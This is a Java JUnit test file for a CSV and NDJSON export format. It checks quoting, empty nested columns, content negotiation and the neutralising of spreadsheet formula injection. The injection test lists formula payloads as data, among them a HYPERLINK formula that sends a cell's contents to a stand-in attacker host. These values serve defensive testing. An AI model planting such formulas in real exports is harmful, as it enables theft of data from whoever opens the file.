package dev.tenancy.spring.crud;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

class ExportFormatTest {

    private enum Kind {
        SMALL
    }

    private record Address(String city, Integer floor) {}

    private record Line(
            UUID id, String name, BigDecimal price, LocalDate day, Kind kind, boolean open, Address address) {}

    private record Cell(String text) {}

    private record Amount(long amount) {}

    private static final Line LINE = new Line(
            new UUID(0, 1),
            "a \"b\", c\nd",
            new BigDecimal("12.50"),
            LocalDate.of(2026, 1, 2),
            Kind.SMALL,
            true,
            new Address("Köln", null));

    @Test
    void csvHasAHeaderAndQuotesWhatNeedsIt() throws IOException {
        assertThat(csv(Line.class, LINE))
                .isEqualTo(
                        "id,name,price,day,kind,open,address.city,address.floor\r\n"
                                + "00000000-0000-0000-0000-000000000001,\"a \"\"b\"\", c\nd\",12.50,2026-01-02,SMALL,true,Köln,\r\n");
    }

    @Test
    void aNestedRecordThatIsMissingLeavesItsColumnsEmpty() throws IOException {
        Line bare = new Line(new UUID(0, 1), null, null, null, null, false, null);
        assertThat(csv(Line.class, bare)).endsWith("\r\n00000000-0000-0000-0000-000000000001,,,,,false,,\r\n");
    }

    @Test
    void csvWithoutRowsIsItsHeader() throws IOException {
        assertThat(csv(Cell.class)).isEqualTo("text\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20A",
                "=\nx",
                "=HYPERLINK(\"http://evil.example?x=\"&A1)",
                "-"
            })
    void textThatASpreadsheetTakesForAFormulaIsText(String text) throws IOException {
        String cell = csv(Cell.class, new Cell(text)).substring("text\r\n".length());
        assertThat(cell.replaceFirst("^\"", "")).startsWith("'" + text.charAt(0));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=1", "1-2", "O'Neill", "x@y.example", "'=1", " ok", "1.5"})
    void otherTextStaysAsItIs(String text) throws IOException {
        assertThat(csv(Cell.class, new Cell(text)).replace("\"", "")).isEqualTo("text\r\n" + text + "\r\n");
    }

    @ParameterizedTest
    @CsvSource({"-5, -5", "0, 0", "9007199254740993, 9007199254740993"})
    void numbersStayNumbers(long amount, String cell) throws IOException {
        assertThat(csv(Amount.class, new Amount(amount))).isEqualTo("amount\r\n" + cell + "\r\n");
    }

    @Test
    void ndjsonIsOneObjectALine() throws IOException {
        assertThat(text(ExportFormat.NDJSON, Line.class, LINE, LINE).lines())
                .hasSize(2)
                .allMatch(line -> line.equals(JSON.writeValueAsString(LINE)));
        assertThat(text(ExportFormat.NDJSON, Cell.class, new Cell("=1"))).isEqualTo("{\"text\":\"=1\"}\n");
    }

    @ParameterizedTest
    @CsvSource({
        "*/*, CSV",
        "text/csv, CSV",
        "text/*, CSV",
        "application/x-ndjson, NDJSON",
        "'application/json, application/x-ndjson;q=0.5', NDJSON",
        "'text/csv;q=0.1, application/x-ndjson', NDJSON",
        "'*/*;q=0.1, application/x-ndjson;q=0.2', NDJSON",
    })
    void theFormatIsTheOneThatIsPreferred(String accept, ExportFormat format) {
        assertThat(ExportFormat.of(null, accept)).isEqualTo(format);
    }

    @ParameterizedTest
    @ValueSource(strings = {"image/png", "application/json", "nonsense", "text/html, image/*"})
    void anotherFormatIsNotAcceptable(String accept) {
        assertThatExceptionOfType(RefusedException.class)
                .isThrownBy(() -> ExportFormat.of(null, accept))
                .matches(refusal -> refusal.reason() == RefusedException.Reason.NOT_ACCEPTABLE);
    }

    private static final JsonMapper JSON = new JsonMapper();

    private static String csv(Class<?> type, Record... rows) throws IOException {
        return text(ExportFormat.CSV, type, rows);
    }

    private static String text(ExportFormat format, Class<?> type, Record... rows) throws IOException {
        StringWriter out = new StringWriter();
        ExportFormat.Line line = format.line(ExportFormat.columns(type, ""), JSON, out);
        for (Record row : rows) {
            line.write(row);
        }
        return out.toString();
    }
}
